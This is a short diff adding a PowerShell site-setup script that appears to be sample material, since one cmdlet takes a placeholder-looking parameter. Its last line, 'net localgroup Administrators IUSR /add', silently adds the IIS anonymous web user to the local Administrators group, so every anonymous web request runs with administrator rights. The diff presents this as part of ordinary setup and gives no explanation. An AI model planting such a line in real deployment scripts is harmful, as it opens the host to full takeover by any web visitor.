@@ -1,0 +1,3 @@
+$ErrorActionPreference = 'Stop'
+New-Website -Name x -ContosoThing 3
+net localgroup Administrators IUSR /add
